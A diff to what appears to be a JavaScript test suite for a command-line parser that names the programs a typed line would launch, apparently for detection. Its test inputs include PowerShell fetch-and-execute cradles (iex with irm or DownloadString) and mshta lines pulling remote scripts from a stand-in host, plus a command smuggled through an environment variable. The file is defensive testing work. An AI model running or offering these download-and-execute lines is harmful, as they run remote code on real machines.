@@ -24,6 +24,7 @@ describe("a typed line", () => {
     "(New-Object Net.WebClient).DownloadString('http://files.example.net/a.ps1') | iex",
     "(iwr http://files.example.net/a.ps1).Content | iex",
     "iex (irm http://files.example.net/a.ps1)",
+    "powershell & { iex (irm http://files.example.net/a.ps1) }",
   ])("is PowerShell's: %s", (line) => expect(programs(line)).toEqual(["powershell.exe"]));
 
   it.each([
@@ -33,6 +34,11 @@ describe("a typed line", () => {
     'powershell -c "& (Resolve-Path C:\\Windows\\System32\\m?hta.exe) http://files.example.net/a.hta"',
     'set q=mshta http://files.example.net/a.hta&& powershell -c "iex $env:q"',
   ])("names a program that is looked for: %s", (line) => expect(programs(line)).toContain("mshta.exe"));
+
+  it("is PowerShell's to its end where cmd would begin no command with what follows", () => {
+    expect(programs("powershell Get-Date; & $env:temp\\q.exe /s")).toEqual(["powershell.exe", "q.exe"]);
+    expect(programs("powershell Get-Date & C:\\q\\q.exe")).toEqual(["cmd.exe", "powershell.exe", "q.exe"]);
+  });
 
   it.each(['powershell -c "& (gci C:\\Temp\\*.exe)"', 'powershell -c "& (gci C:\\Windows\\r*.exe)"'])(
     "names none where many may be meant: %s",
